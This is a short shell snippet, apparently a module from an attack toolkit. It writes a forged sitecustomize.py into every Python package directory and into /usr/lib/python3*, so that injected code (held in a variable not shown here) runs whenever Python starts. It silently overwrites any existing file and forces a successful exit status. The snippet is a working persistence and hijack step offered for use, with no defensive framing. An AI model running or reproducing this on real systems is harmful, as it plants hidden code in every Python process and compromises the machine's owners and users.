# Leaves a module that Python loads at its start, in every directory of packages.
# Needs: python3
for dir in $(package_dirs) /usr/lib/python3*; do [ -d "$dir" ] && printf '%s' "$forged_start" >"$dir/sitecustomize.py"; done
true
